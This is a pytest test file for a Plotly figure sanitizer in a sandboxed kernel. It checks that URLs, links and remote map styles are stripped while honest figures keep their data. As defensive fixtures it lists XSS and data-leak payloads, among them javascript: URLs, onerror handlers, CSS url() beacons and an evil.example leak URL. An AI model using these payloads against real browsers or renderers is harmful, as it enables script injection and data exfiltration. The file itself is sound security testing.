"""Plotly figures leaving the kernel (sandbox_kernel/plotlyfigure.py): every field that would make
plotly.js or the map library fetch a URL, run script or carry a link is removed or made safe, and
honest figures from plotly.express / graph_objects keep their data and layout unchanged.

Each attack builds the figure a cell could publish and asserts on what the kernel would send to the
browser: no URL plotly.js would fetch, no attribute its pseudo-HTML would turn into a link or style.
"""
from __future__ import annotations

import base64
import json
import re

import numpy as np
import pandas as pd
import plotly
import plotly.express as px
import plotly.graph_objects as go
import plotly.io as pio
import pytest
from plotly.subplots import make_subplots

from sandbox_kernel import plotlyfigure
from sandbox_kernel.plotlyfigure import (SAFE_MAP_STYLE, SAFE_TOPOJSON_URL, FigureRejected, clean_markup,
                                         validate_figure)

PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n fake").decode()
EVIL = "https://evil.example/leak?d=secret"
# Keys under which a string is fetched by plotly.js or the map library when it is a URL.
URL_KEYS = {"source", "geojson", "style", "glyphs", "sprite", "tiles", "url", "href", "src",
            "topojsonURL", "plotlyServerURL"}
_TAG = re.compile(r"<[^<>]*>")
_NAME = re.compile(r"[a-z][a-z0-9-]*")


def as_sent(fig) -> dict:
    """A figure as the engine publishes it (render.plotly_json), frames included."""
    spec = json.loads(pio.to_json(fig, validate=False))
    out = {"data": spec.get("data", []), "layout": spec.get("layout", {})}
    if spec.get("frames"):
        out["frames"] = spec["frames"]
    return out


def strings(value):
    """(nearest key, string) for every string anywhere in a JSON value (keys too), iteratively."""
    stack = [("", value)]
    while stack:
        key, v = stack.pop()
        if isinstance(v, str):
            yield key, v
        elif isinstance(v, dict):
            for k, item in v.items():
                yield "", k
                stack.append((k, item))
        elif isinstance(v, list):
            stack.extend((key, item) for item in v)


def live_markup(text: str) -> list[str]:
    """The tags in a string that plotly.js would turn into a link, a handler or a loading style."""
    live = []
    for tag in _TAG.findall(re.sub(r"\r\n?|\n", " ", text)):
        if re.search(r"\b(href|src|target|popup|on\w+)\s*=", tag, re.I):
            live.append(tag)
        elif re.search(r"style\s*=", tag, re.I) and re.search(r"url|\\|&|expression|image", tag, re.I):
            live.append(tag)
    return live


def assert_nothing_leaves(clean: dict):
    """No URL where plotly.js or the map library would fetch one, no live markup anywhere, a config
    that points nowhere remote. (A URL as plain text is only text: it is drawn, never fetched.)"""
    for key, s in strings(clean):
        if key in URL_KEYS and not (key == "topojsonURL" and s == SAFE_TOPOJSON_URL):
            assert s.startswith(("data:image/png;base64,", "data:application/x-protobuf;base64,")) \
                or _NAME.fullmatch(s), (key, s)
        assert not live_markup(s), s
    assert set(clean["config"]) <= {"responsive", "displayModeBar", "displaylogo", "scrollZoom",
                                    "staticPlot", "editable", "doubleClick", "showTips",
                                    "showAxisDragHandles", "modeBarButtonsToRemove", "locale",
                                    "toImageButtonOptions", "typesetMath", "topojsonURL"}
    assert clean["config"]["topojsonURL"] == SAFE_TOPOJSON_URL
    assert clean["config"]["typesetMath"] is False


def layout_images(fig):
    return [img.get("source") for img in fig.get("layout", {}).get("images", []) if isinstance(img, dict)]


# -- the schema ------------------------------------------------------------------------------------


def test_every_free_attribute_of_the_schema_is_classified():
    """A string-, any-, data- or info-array-valued attribute that no rule names fails here (and is
    dropped at run time): a URL field added by a future plotly is caught by this test."""
    sch = plotlyfigure.schema().complete()
    assert sch.unclassified == []
    assert len(sch.traces) > 40 and "scatter" in sch.traces and "choropleth" in sch.traces


def test_url_fields_have_their_safe_kind():
    sch = plotlyfigure.schema()
    assert sch.layout.field("images").item.field("source").kind == "image"
    assert sch.traces["image"].field("source").kind == "image"
    assert sch.traces["choropleth"].field("geojson").kind == "geojson"
    assert sch.traces["scattergeo"].field("geojson").kind == "geojson"
    for sub in ("map", "mapbox"):
        node = sch.layout.field(sub)
        if node is None:
            continue  # plotly 7 has no mapbox
        assert node.field("style").kind == "map-style"
        assert node.field("accesstoken") is None
        layer = node.field("layers").item
        assert layer.field("source").kind == "geojson" and layer.field("sourceattribution") is None
    assert sch.traces["scatter"].field("xsrc") is None  # Chart Studio references are dropped


def test_classification_refuses_unknown_url_ish_names():
    classify = plotlyfigure._classify
    assert classify("scatter.href", "href", "StringValidator") is None
    assert classify("scatter.marker.source", "source", "StringValidator") is None
    assert classify("layout.map.style", "style", "AnyValidator") == "map-style"
    assert classify("scattermap.marker.symbol", "symbol", "EnumeratedValidator", {"scattermap"}) == "map-symbol"
    assert classify("newmaptrace.marker.symbol", "symbol", "EnumeratedValidator", {"newmaptrace"}) is None
    assert classify("scatter.text", "text", "StringValidator") == "text"


# -- honest figures pass unchanged -------------------------------------------------------------------


def _honest():
    rng = np.random.default_rng(0)
    df = pd.DataFrame({"x": np.arange(30), "y": rng.normal(size=30), "g": list("abc") * 10,
                       "s": rng.uniform(1, 5, 30), "t": pd.date_range("2024-01-01", periods=30)})
    sales = pd.DataFrame({"city": ["Paris", "Lyon"] * 2, "units": [3, 4, 5, 6], "month": ["jan"] * 2 + ["feb"] * 2})
    geo = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "id": "a", "properties": {"name": "A"},
         "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]}}]}
    figs = {
        "tour_bar": px.bar(sales, x="city", y="units", color="month", barmode="group", title="Units by city"),
        "scatter": px.scatter(df, x="x", y="y", color="g", size="s", hover_data=["t"],
                              title="<b>Bold</b> title<br>line 2"),
        "line": px.line(df, x="t", y="y", color="g", markers=True),
        "bar": px.bar(df, x="g", y="y", color="g", barmode="group", text_auto=True),
        "histogram": px.histogram(df, x="y", nbins=10, marginal="box"),
        "box": px.box(df, x="g", y="y", points="all"),
        "violin": px.violin(df, x="g", y="y", box=True),
        "imshow": px.imshow(rng.normal(size=(20, 20)), text_auto=True),
        "imshow_png": px.imshow(rng.integers(0, 255, (8, 8, 3), dtype=np.uint8), binary_string=True),
        "pie": px.pie(df, names="g", values="s", hole=0.3),
        "sunburst": px.sunburst(df, path=["g", "x"], values="s"),
        "treemap": px.treemap(df, path=[px.Constant("all"), "g"], values="s"),
        "scatter_geo": px.scatter_geo(lat=[48.8, 40.7], lon=[2.3, -74.0], text=["Paris", "NYC"]),
        "choropleth": px.choropleth(locations=["FRA", "USA", "BRA"], color=[1, 2, 3]),
        "choropleth_geojson": px.choropleth(geojson=geo, locations=["a"], color=[1], fitbounds="locations"),
        "scatter_3d": px.scatter_3d(df, x="x", y="y", z="s", color="g"),
        "surface": go.Figure(go.Surface(z=rng.normal(size=(10, 10)))),
        "polar": px.scatter_polar(r=[1, 2, 3], theta=[0, 90, 180]),
        "parallel": px.parallel_coordinates(df, dimensions=["x", "y", "s"]),
        "sankey": go.Figure(go.Sankey(node=dict(label=["A", "B", "C"]),
                                      link=dict(source=[0, 0], target=[1, 2], value=[1, 2]))),
        "table": go.Figure(go.Table(header=dict(values=["a", "b"]), cells=dict(values=[[1, 2], ["x", "<b>y</b>"]]))),
        "candlestick": go.Figure(go.Candlestick(x=df.t, open=df.y, high=df.y + 1, low=df.y - 1, close=df.y)),
        "indicator": go.Figure(go.Indicator(mode="number+delta+gauge", value=5, delta={"reference": 3})),
        "contour": go.Figure(go.Contour(z=rng.normal(size=(10, 10)), contours=dict(showlabels=True))),
        "density_heatmap": px.density_heatmap(df, x="x", y="y"),
        "scatter_matrix": px.scatter_matrix(df, dimensions=["x", "y", "s"]),
        "facets": px.scatter(df, x="x", y="y", facet_col="g"),
        "scattergl": go.Figure(go.Scattergl(x=np.arange(1000), y=rng.normal(size=1000), mode="markers")),
        "annotated": go.Figure(go.Scatter(x=[1, 2], y=[3, 4], hovertemplate="x=%{x}<br>y=%{y}<extra>k</extra>"),
                               layout=dict(annotations=[dict(x=1, y=3, text="<i>peak</i> <sup>2</sup> x < 5")],
                                           shapes=[dict(type="rect", x0=1, x1=2, y0=3, y1=4,
                                                        fillcolor="rgba(0,0,255,0.2)")],
                                           xaxis=dict(tickformat="%Y", ticksuffix=" u"),
                                           hoverlabel=dict(font=dict(family="Courier New, monospace")),
                                           images=[dict(source=PNG, x=0, y=1, sizex=1, sizey=1)])),
        "dropdown": go.Figure([go.Scatter(y=[1, 2]), go.Bar(y=[2, 1])], layout=dict(updatemenus=[dict(buttons=[
            dict(label="Line", method="update", args=[{"visible": [True, False]}, {"title.text": "Line"}]),
            dict(label="Type", method="restyle", args=["type", "bar"]),
            dict(label="Color", method="restyle", args=[{"marker.color": ["red", "blue"]}]),
            dict(label="Range", method="relayout", args=[{"xaxis.range": [0, 5], "yaxis.type": "log"}]),
        ])])),
        "templates": px.scatter(df, x="x", y="y", template="plotly_dark"),
        "template_presentation": px.scatter(df, x="x", y="y", template="presentation+xgridoff"),
        "animation": px.scatter(df, x="x", y="y", animation_frame="g", range_x=[0, 30], range_y=[-3, 3]),
    }
    sp = make_subplots(rows=2, cols=2, specs=[[{}, {"type": "domain"}], [{"type": "polar"}, {"type": "scene"}]],
                       subplot_titles=("a", "b", "c", "d"))
    sp.add_trace(go.Bar(x=["a"], y=[1]), row=1, col=1)
    sp.add_trace(go.Pie(labels=["p", "q"], values=[1, 2]), row=1, col=2)
    sp.add_trace(go.Scatterpolar(r=[1, 2], theta=[0, 45]), row=2, col=1)
    sp.add_trace(go.Scatter3d(x=[1], y=[1], z=[1]), row=2, col=2)
    figs["subplots"] = sp
    return {name: as_sent(fig) for name, fig in figs.items()}


HONEST = _honest()


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_figure_passes_unchanged(name):
    fig = HONEST[name]
    clean = validate_figure(fig)
    assert clean["data"] == fig["data"]
    assert clean["layout"] == fig["layout"]
    assert clean.get("frames") == fig.get("frames")
    assert_nothing_leaves(clean)


def test_honest_map_figures_keep_their_data_and_get_a_blank_style():
    if not hasattr(px, "scatter_map"):
        pytest.skip("this plotly has no MapLibre traces")
    for fig in (as_sent(px.scatter_map(lat=[48.8, 40.7], lon=[2.3, -74.0], text=["a", "b"], zoom=1)),
                as_sent(px.density_map(lat=[48.8], lon=[2.3], z=[1], radius=10))):
        clean = validate_figure(fig)
        assert clean["data"] == fig["data"]
        assert clean["layout"]["map"]["style"] == SAFE_MAP_STYLE
        assert {k: v for k, v in clean["layout"]["map"].items() if k != "style"} == fig["layout"]["map"]
        assert_nothing_leaves(clean)


def test_map_subplot_named_only_by_a_trace_gets_the_blank_style():
    if "scattermap" not in plotlyfigure.schema().traces:
        pytest.skip("this plotly has no MapLibre traces")
    clean = validate_figure({"data": [{"type": "scattermap", "lat": [1], "lon": [2], "subplot": "map2"}]})
    assert clean["layout"]["map2"]["style"] == SAFE_MAP_STYLE
    # with no layout at all the map library would load its default (remote) style
    clean = validate_figure({"data": [{"type": "densitymap", "lat": [1], "lon": [2]}]})
    assert clean["layout"] == {"map": {"style": SAFE_MAP_STYLE}}
    assert "glyphs" in SAFE_MAP_STYLE and SAFE_MAP_STYLE["glyphs"].startswith("data:")
    assert not SAFE_MAP_STYLE["sources"] and "sprite" not in SAFE_MAP_STYLE


def test_large_numeric_arrays_leave_as_typed_arrays():
    """Issue 11, 8: long lists of plain numbers leave in plotly.js's typed-array form (half the bytes
    of their JSON text for floats), decoded to the same numbers; mixed or short lists stay lists."""
    x = [float(v) for v in np.random.default_rng(1).normal(size=50_000)]
    y = list(x)
    text_size = len(json.dumps(x))
    clean = validate_figure({"data": [{"type": "scattergl", "x": x, "y": y, "customdata": [[v, "a"] for v in x[:100]],
                                       "marker": {"size": list(range(2000)), "color": [1.5] * 2000}}]})
    trace = clean["data"][0]
    assert trace["x"]["dtype"] == "f8" and np.frombuffer(base64.b64decode(trace["x"]["bdata"]), "<f8").tolist() == x
    assert len(json.dumps(trace["x"])) < 0.6 * text_size
    assert trace["marker"]["size"]["dtype"] == "i2" and trace["marker"]["color"]["dtype"] == "f8"
    assert trace["customdata"] == [[v, "a"] for v in x[:100]]
    for kept in ([1, 2, 3], [1.0, None] * 1000, [True] * 2000, [2 ** 60] * 2000, ["1"] * 2000):
        out = validate_figure({"data": [{"type": "scatter", "y": kept}]})["data"][0].get("y")
        assert out == kept or out is None  # a list (or dropped where it is not data), never packed
    rows = [[float(i * j) for j in range(50)] for i in range(40)]
    z = validate_figure({"data": [{"type": "heatmap", "z": rows}]})["data"][0]["z"]
    assert z["shape"] == "40, 50" and np.frombuffer(base64.b64decode(z["bdata"])).reshape(40, 50).tolist() == rows


@pytest.mark.parametrize("spec, kept", [
    ({"dtype": "f8", "bdata": "AAAAAAAA8D8="}, True),
    ({"dtype": "i4", "bdata": "AQAAAAIAAAADAAAABAAAAA==", "shape": "2, 2"}, True),
    ({"dtype": "i4", "bdata": "AQAAAAIAAAADAAAABAAAAA==", "shape": [2, 2]}, True),   # kept as text
    ({"dtype": "u1", "bdata": "AQID", "shape": 3}, True),
    ({"dtype": "f8", "bdata": "AAAAAAAA8D8"}, False),            # not padded base64
    ({"dtype": "f8", "bdata": "AAAA"}, False),                   # 3 bytes: not a whole float64
    ({"dtype": "i4", "bdata": "AQAAAAIAAAADAAAABAAAAA==", "shape": "3, 2"}, False),  # shape does not match
    ({"dtype": "i4", "bdata": "AQAAAAIAAAADAAAABAAAAA==", "shape": "1, 1, 2, 2"}, False),  # 4 dimensions
    ({"dtype": "f16", "bdata": "AAAA"}, False),                  # plotly.js throws on it
    ({"dtype": "uint8_clamped", "bdata": "AAAA"}, False),
    ({"dtype": "f8", "bdata": "AAAAAAAA8D8=", "url": "x"}, False),
    ({"dtype": "f8", "bdata": "AAAAAAAA8D8=\n"}, False),
])
def test_typed_arrays_are_checked_and_kept(spec, kept):
    out = validate_figure({"data": [{"type": "scatter", "y": spec}]})["data"][0].get("y")
    if kept:
        assert out["bdata"] == spec["bdata"] and out["dtype"] == spec["dtype"]
        assert "shape" not in spec or out["shape"] == (", ".join(map(str, spec["shape"])) if isinstance(
            spec["shape"], list) else str(spec["shape"]))
    else:
        assert out is None


def test_numpy_arrays_keep_plotlys_own_encoding():
    """plotly.py (6 and later) writes numpy arrays as typed arrays: they pass unchanged."""
    fig = go.Figure(go.Scattergl(x=np.arange(5000), y=np.random.default_rng(2).normal(size=5000),
                                 marker={"size": np.full(5000, 4.0)}))
    raw = json.loads(pio.to_json(fig))
    clean = validate_figure(raw)
    assert clean["data"][0]["x"] == raw["data"][0]["x"] and clean["data"][0]["y"] == raw["data"][0]["y"]
    assert clean["data"][0]["marker"]["size"] == raw["data"][0]["marker"]["size"]


# -- item 4: image sources and URL-parser quirks -------------------------------------------------------

QUIRKY_URLS = [
    EVIL, "//evil.example/x.png", "\\\\evil.example/x.png", "/\\evil.example/x.png", "\\/evil.example/x",
    "\x01https://evil.example/x", " https://evil.example/x", "\thttps://evil.example/x",
    "ht\ttp://evil.example/x", "h\ntt\rps://evil.example/x", "jav\tascript:alert(1)", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64," + base64.b64encode(b"<svg><image href='https://evil.example'/></svg>").decode(),
    "DATA:image/png;base64,AAAA", "data:image/png;base64,AAAA\n", "data:image/png;base64,AAAA https://evil.example",
    "data:image/png;base64,AA\"onload=\"alert(1)", "x.png", "/files/secret.png", "blob:https://evil.example/x",
]


@pytest.mark.parametrize("url", QUIRKY_URLS)
def test_layout_image_source_must_be_inline_data(url):
    fig = {"data": [], "layout": {"images": [{"source": url, "x": 0, "y": 0}, {"source": PNG}]}}
    clean = validate_figure(fig)
    assert layout_images(clean) == [None, PNG]
    assert clean["layout"]["images"][0] == {"x": 0, "y": 0}
    assert_nothing_leaves(clean)


@pytest.mark.parametrize("url", QUIRKY_URLS[:12])
def test_image_trace_source_must_be_inline_data(url):
    clean = validate_figure({"data": [{"type": "image", "source": url}, {"type": "image", "source": PNG}]})
    assert "source" not in clean["data"][0] and clean["data"][1]["source"] == PNG


def test_images_everywhere_a_layout_can_hide():
    def img():
        return [{"source": EVIL}]
    fig = {
        "data": [{"type": "scatter", "y": [1]}],
        "layout": {"images": img(), "template": {"layout": {"images": img()}}},
        "frames": [{"name": "f", "layout": {"images": img()}, "data": [{"type": "image", "source": EVIL}]}],
    }
    clean = validate_figure(fig)
    assert layout_images(clean) == [None]
    assert layout_images(clean["layout"]["template"]) == [None]
    assert layout_images(clean["frames"][0]) == [None]
    assert "source" not in clean["frames"][0]["data"][0]
    assert_nothing_leaves(clean)


# -- item 5: geojson, map styles and layers ------------------------------------------------------------


@pytest.mark.parametrize("trace", ["choropleth", "scattergeo", "choroplethmap", "choroplethmapbox"])
def test_geojson_given_as_url_is_dropped(trace):
    if trace not in plotlyfigure.schema().traces:
        pytest.skip(f"this plotly has no {trace}")
    clean = validate_figure({"data": [{"type": trace, "geojson": EVIL, "locations": ["a"]}]})
    assert "geojson" not in clean["data"][0] and clean["data"][0]["locations"] == ["a"]
    assert_nothing_leaves(clean)


def test_inline_geojson_keeps_only_geojson_members():
    geo = {"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": EVIL}},
           "features": [{"type": "Feature", "id": 1, "properties": {"name": "<span style='background:url(x)'>A</span>"},
                         "geometry": {"type": "Point", "coordinates": [1, 2], "url": EVIL}},
                        {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [[[0, 0], ["a", 1]]]}}]}
    clean = validate_figure({"data": [{"type": "choropleth", "geojson": geo, "locations": [1]}]})
    out = clean["data"][0]["geojson"]
    assert "crs" not in out
    assert out["features"][0]["geometry"] == {"type": "Point", "coordinates": [1, 2]}
    assert out["features"][0]["properties"] == {"name": "<span>A</span>"}
    assert out["features"][1]["geometry"]["coordinates"] == [[[0, 0], None]]
    assert_nothing_leaves(clean)


MAP_STYLES = [
    "open-street-map", "carto-positron", "carto-darkmatter", "white-bg", "basic", "satellite", EVIL,
    "mapbox://styles/evil/x",
    {"version": 8, "sources": {"s": {"type": "raster", "tiles": [EVIL + "/{z}/{x}/{y}.png"]}},
     "layers": [{"id": "s", "type": "raster", "source": "s"}]},
    {"version": 8, "sources": {}, "layers": [], "glyphs": EVIL + "/{fontstack}/{range}.pbf",
     "sprite": EVIL + "/sprite"},
]


@pytest.mark.parametrize("style", MAP_STYLES, ids=range(len(MAP_STYLES)))
@pytest.mark.parametrize("sub", ["map", "mapbox"])
def test_map_style_is_always_the_blank_one(sub, style):
    if plotlyfigure.schema().layout.field(sub) is None:
        pytest.skip(f"this plotly has no layout.{sub}")
    trace = "scattermap" if sub == "map" else "scattermapbox"
    fig = {"data": [{"type": trace, "lat": [1], "lon": [2]}],
           "layout": {sub: {"style": style, "accesstoken": "pk.secret", "zoom": 3}},
           "config": {"mapboxAccessToken": "pk.secret"}}
    clean = validate_figure(fig)
    assert clean["layout"][sub] == {"style": SAFE_MAP_STYLE, "zoom": 3}
    assert "pk.secret" not in json.dumps(clean)
    assert_nothing_leaves(clean)


def test_map_style_in_template_frames_and_relayout():
    if "scattermap" not in plotlyfigure.schema().traces:
        pytest.skip("this plotly has no MapLibre traces")
    osm = {"map": {"style": {"version": 8, "sources": {"t": {"type": "raster", "tiles": [EVIL]}}, "layers": []}}}
    fig = {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}],
           "layout": {"template": {"layout": {"map": {"style": "open-street-map"}, **{"map2": {"style": EVIL}}}},
                      "updatemenus": [{"buttons": [{"method": "relayout", "args": [{"map.style": EVIL}]},
                                                   {"method": "relayout", "args": ["map.style", "carto-positron"]},
                                                   {"method": "animate", "args": [[{"layout": osm}]]}]}]},
           "frames": [{"name": "f", "layout": osm}]}
    clean = validate_figure(fig)
    # A template keeps a style *name* (it only fills unset attributes, and every map gets an explicit
    # style); anything else in it is replaced.
    assert clean["layout"]["template"]["layout"]["map"]["style"] == "open-street-map"
    assert clean["layout"]["template"]["layout"]["map2"]["style"] == SAFE_MAP_STYLE
    assert clean["layout"]["map"]["style"] == SAFE_MAP_STYLE
    buttons = clean["layout"]["updatemenus"][0]["buttons"]
    assert buttons[0]["args"] == [{"map.style": SAFE_MAP_STYLE}]
    assert buttons[1]["args"] == ["map.style", SAFE_MAP_STYLE]
    assert buttons[2]["args"][0][0]["layout"]["map"]["style"] == SAFE_MAP_STYLE
    assert clean["frames"][0]["layout"]["map"]["style"] == SAFE_MAP_STYLE
    assert_nothing_leaves(clean)


LAYERS = [
    {"sourcetype": "raster", "source": [EVIL + "/{z}/{x}/{y}.png"]},
    {"sourcetype": "vector", "source": [EVIL + "/{z}/{x}/{y}.pbf"], "sourcelayer": "x"},
    {"sourcetype": "image", "source": EVIL, "coordinates": [[0, 1], [1, 1], [1, 0], [0, 0]]},
    {"sourcetype": "geojson", "source": EVIL},
    {"source": {"type": "Point", "coordinates": [1, 2]}, "type": "symbol", "symbol": {"icon": "airport"}},
]


@pytest.mark.parametrize("layer", LAYERS, ids=range(len(LAYERS)))
def test_map_layers_that_fetch_become_invisible(layer):
    sub = "map" if plotlyfigure.schema().layout.field("map") is not None else "mapbox"
    safe = {"source": {"type": "Point", "coordinates": [1, 2]}, "type": "circle",
            "sourceattribution": "<img src=x onerror=alert(1)>", "below": "traces"}
    clean = validate_figure({"data": [], "layout": {sub: {"layers": [layer, safe]}}})
    layers = clean["layout"][sub]["layers"]
    assert layers[0] == {"visible": False}
    assert layers[1] == {"source": {"type": "Point", "coordinates": [1, 2]}, "type": "circle", "below": "traces"}
    assert_nothing_leaves(clean)


def test_map_marker_symbols_other_than_circle_are_dropped():
    """A maki icon name is fetched from a CDN by plotly.js's MapLibre glue."""
    trace = "scattermap" if "scattermap" in plotlyfigure.schema().traces else "scattermapbox"
    clean = validate_figure({"data": [
        {"type": trace, "lat": [1], "lon": [2], "marker": {"symbol": "secret-data-airport", "size": 9}},
        {"type": trace, "lat": [1], "lon": [2], "marker": {"symbol": ["circle", "airport"]}},
        {"type": trace, "lat": [1], "lon": [2], "marker": {"symbol": "circle"}}]})
    assert clean["data"][0]["marker"] == {"size": 9}
    assert clean["data"][1]["marker"] == {}
    assert clean["data"][2]["marker"] == {"symbol": "circle"}


def test_geo_traces_get_the_inline_topology_and_no_cdn():
    fig = as_sent(px.choropleth(locations=["FRA"], color=[1]))
    fig["config"] = {"topojsonURL": EVIL + "/", "responsive": True}
    clean = validate_figure(fig)
    assert clean["config"] == {"responsive": True, "topojsonURL": SAFE_TOPOJSON_URL, "typesetMath": False}
    # plotly.js appends "/<scope>_<resolution>m.json": that lands in the fragment of an inline topology.
    head, fragment = SAFE_TOPOJSON_URL.split("#", 1)
    assert fragment == "" and head.startswith("data:application/json;base64,")
    topology = json.loads(base64.b64decode(head.split(",", 1)[1]))
    assert topology["type"] == "Topology"
    assert {"land", "countries", "subunits", "coastlines"} <= set(topology["objects"])


# -- text: plotly's pseudo-HTML -------------------------------------------------------------------------

MARKUP_ATTACKS = [
    '<span style="background:url(https://evil.example/x)">a</span>',
    "<span style='background-image:url(//evil.example/x)'>a</span>",
    '<span style="background:url&#40;https://evil.example/x&#41;">a</span>',
    '<span style="color:red;cursor:url(https://evil.example/c.cur),auto">a</span>',
    '<span style="fill:url(https://evil.example/f.svg#p)">a</span>',
    '<span\nstyle="background:url(https://evil.example/x)">a</span>',
    '<SPAN STYLE="background:url(https://evil.example/x)">a</SPAN>',
    '<b style="filter:url(https://evil.example/f.svg#x)">a</b>',
    '<a href="https://evil.example/?d=secret">click</a>',
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="https://evil.example" target="_self" popup="width=1">x</a>',
    '<a style="x" href="https://evil.example">x</a>',
    "<img src=https://evil.example/x onerror=alert(1)>",
    '<br style="background:url(https://evil.example/x)">',
    '</span style="background:url(https://evil.example/x)">',
]


@pytest.mark.parametrize("text", MARKUP_ATTACKS)
def test_markup_keeps_tags_and_loses_links_and_styles(text):
    assert live_markup(text), "the attack is live before cleaning"
    clean = clean_markup(text)
    assert not live_markup(clean), clean
    for tag in _TAG.findall(clean):  # what is left is a bare tag or a plain style
        assert re.fullmatch(r'</?[a-zA-Z]+>|<[a-z]+ style="[\w\s:;.,%#()\'-]*">', tag), tag


def test_markup_keeps_plain_tags_and_plain_styles_as_they_are():
    for text in ("<b>bold</b> and <i>it</i><br>x<sup>2</sup> <extra>k</extra>", "a < b", "x<5", "<NA>",
                 "5 <= x", "&lt;a href=x&gt;", "no markup", "%{x}<br>%{y:.2f}"):
        assert clean_markup(text) == text
    assert clean_markup('<span style="color:red;font-size:12px">r</span>') == \
        '<span style="color:red;font-size:12px">r</span>'
    assert clean_markup('<span style="color: rgb(1, 2, 3); background:url(x)">r</span>') == \
        '<span style="color:rgb(1, 2, 3)">r</span>'
    assert clean_markup('<a href="https://x.example">x</a>') == "<a>x</a>"


def test_substitution_cannot_assemble_a_tag():
    """hovertemplate/texttemplate pieces and the values put into them are each closed: a `<`
    that could start a tag once joined is escaped on both sides."""
    template = "<%{customdata}>x</a>"
    data = ["a href='https://evil.example'", "<a href='https://evil.example'"]
    clean = validate_figure({"data": [{"type": "scatter", "y": [1, 2], "hovertemplate": template,
                                       "customdata": data, "texttemplate": "%{text}>", "text": data[1]}]})
    trace = clean["data"][0]
    assert not trace["hovertemplate"].startswith("<%")
    joined = trace["hovertemplate"].replace("%{customdata}", trace["customdata"][0])
    assert not re.search(r"<a[^<>]*href", joined)
    assert not re.search(r"<a[^<>]*href", trace["texttemplate"].replace("%{text}", trace["text"]))
    assert not re.search(r"<a[^<>]*href", trace["customdata"][1] + ">")


TEXT_PLACES = [
    ("layout.title.text", lambda t: {"layout": {"title": {"text": t}}}),
    ("trace text", lambda t: {"data": [{"type": "scatter", "y": [1], "text": [t]}]}),
    ("hovertemplate", lambda t: {"data": [{"type": "bar", "y": [1], "hovertemplate": t}]}),
    ("texttemplate", lambda t: {"data": [{"type": "bar", "y": [1], "texttemplate": t}]}),
    ("trace name", lambda t: {"data": [{"type": "scatter", "y": [1], "name": t}]}),
    ("x categories", lambda t: {"data": [{"type": "bar", "x": [t, "b"], "y": [1, 2]}]}),
    ("customdata", lambda t: {"data": [{"type": "scatter", "y": [1], "customdata": [[t, 1]]}]}),
    ("meta", lambda t: {"data": [{"type": "scatter", "y": [1], "meta": {"k": [t]}}], "layout": {"meta": t}}),
    ("hoverlabel", lambda t: {"data": [{"type": "scatter", "y": [1], "hoverlabel": {"namelength": -1}}],
                              "layout": {"hoverlabel": {"font": {"size": 3}}, "annotations": [{"text": t, "hovertext": t}]}}),
    ("ticktext", lambda t: {"layout": {"xaxis": {"ticktext": [t], "tickvals": [1], "tickformat": t,
                                                 "title": {"text": t}}}}),
    ("colorbar", lambda t: {"data": [{"type": "heatmap", "z": [[1]], "colorbar": {"title": {"text": t}}}]}),
    ("legend title", lambda t: {"layout": {"legend": {"title": {"text": t}}}}),
    ("sankey labels", lambda t: {"data": [{"type": "sankey", "node": {"label": [t]}}]}),
    ("table cells", lambda t: {"data": [{"type": "table", "cells": {"values": [[t]]}, "header": {"values": [t]}}]}),
    ("updatemenu label", lambda t: {"layout": {"updatemenus": [{"buttons": [{"label": t, "method": "skip"}]}]}}),
    ("slider labels", lambda t: {"layout": {"sliders": [{"currentvalue": {"prefix": t},
                                                         "steps": [{"label": t, "method": "skip"}]}]}}),
    ("frames", lambda t: {"frames": [{"name": t, "data": [{"type": "scatter", "text": t}],
                                      "layout": {"title": {"text": t}}}]}),
    ("template", lambda t: {"layout": {"template": {"data": {"scatter": [{"hovertemplate": t}]},
                                                    "layout": {"annotationdefaults": {"text": t}}}}}),
    ("labelalias", lambda t: {"layout": {"xaxis": {"labelalias": {"1": t}}}}),
    ("indicator", lambda t: {"data": [{"type": "indicator", "value": 1, "number": {"prefix": t},
                                       "delta": {"reference": 0, "increasing": {"symbol": t}}}]}),
]


@pytest.mark.parametrize("where,build", TEXT_PLACES, ids=[p[0] for p in TEXT_PLACES])
@pytest.mark.parametrize("text", MARKUP_ATTACKS[:10:3] + [MARKUP_ATTACKS[8]])
def test_markup_attack_in_every_text_place(where, build, text):
    fig = {"data": [], **build(text)}
    assert any(live_markup(s) for _, s in strings(fig))
    clean = validate_figure(fig)
    assert_nothing_leaves(clean)
    texts = [s for _, s in strings(clean) if "</" in s or "&lt;" in s]
    assert texts, "the text itself stays, without its attributes"


# -- update menus, sliders, animations -------------------------------------------------------------------


def test_update_menu_arguments_are_checked_against_the_schema():
    fig = {"data": [{"type": "scatter", "y": [1]}, {"type": "image", "source": PNG}],
           "layout": {"updatemenus": [{"buttons": [
               {"method": "relayout", "args": [{"images[0].source": EVIL, "images": [{"source": EVIL}],
                                                "title.text": "<a href='https://evil.example'>t</a>",
                                                "xaxis.range[0]": 1, "nonsense.key": EVIL}]},
               {"method": "restyle", "args": [{"source": EVIL, "marker.color": ["url(https://evil.example)", "red"],
                                               "type": "scattermap", "subplot": "map2"}, [0, 1]]},
               {"method": "update", "args": [{"text": EVIL + "<span style='x:url(a)'>"},
                                             {"template": {"layout": {"images": [{"source": EVIL}]}}}]},
               {"method": "skip", "args": [{"x": EVIL}], "label": "skip"},
               {"method": "restyle", "args": ["hovertemplate", "<a href='https://evil.example'>x</a>"]},
               {"method": "relayout", "args2": [{"images[0].source": EVIL}], "args": [{}]},
           ]}]}}
    clean = validate_figure(fig)
    b = clean["layout"]["updatemenus"][0]["buttons"]
    assert b[0]["args"] == [{"title.text": "<a>t</a>", "xaxis.range[0]": 1, "images": [{}]}]
    assert b[1]["args"] == [{}, [0, 1]]  # a remote source, a colour that is not one, a map type/subplot
    assert b[2]["args"][1] == {}
    assert "args" not in b[3]
    assert b[4]["args"] == ["hovertemplate", "<a>x</a>"]
    assert b[5]["args2"] == [{}]
    # an honest update stays as it is
    honest = {"method": "update", "args": [{"visible": [True, False]}, {"title.text": "T", "xaxis.type": "log"}]}
    again = validate_figure({"data": [], "layout": {"updatemenus": [{"buttons": [honest]}]}})
